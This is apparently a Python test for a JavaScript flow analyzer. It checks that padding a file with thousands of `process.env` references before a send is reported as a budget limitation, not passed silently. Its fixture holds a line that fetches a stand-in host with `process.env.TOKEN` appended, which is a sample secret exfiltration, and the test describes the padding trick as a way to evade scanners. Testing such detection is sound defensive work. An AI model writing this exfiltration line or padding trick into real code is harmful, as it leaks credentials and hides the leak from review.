"""Can a flow hide behind thousands of uses of a platform object? Not in silence: the budget that they use up is a limitation."""

from __future__ import annotations

from pathlib import Path

import analyzer


def kinds(folder: Path, uses: int) -> list[str]:
    """The limitations of a file that names `process.env` so many times before it sends a variable of it."""
    file = folder / "a.js"
    file.write_text("process.env;\n" * uses + 'fetch("https://e.example/" + process.env.TOKEN);\n')
    return [each.kind for each in analyzer.scan(str(file)).result.coverage.limitations]


def test_a_platform_value_that_is_used_too_often_is_a_limitation(tmp_path: Path) -> None:
    assert kinds(tmp_path, 16_000) == ["budget of a platform value"]
    assert kinds(tmp_path, 100) == []
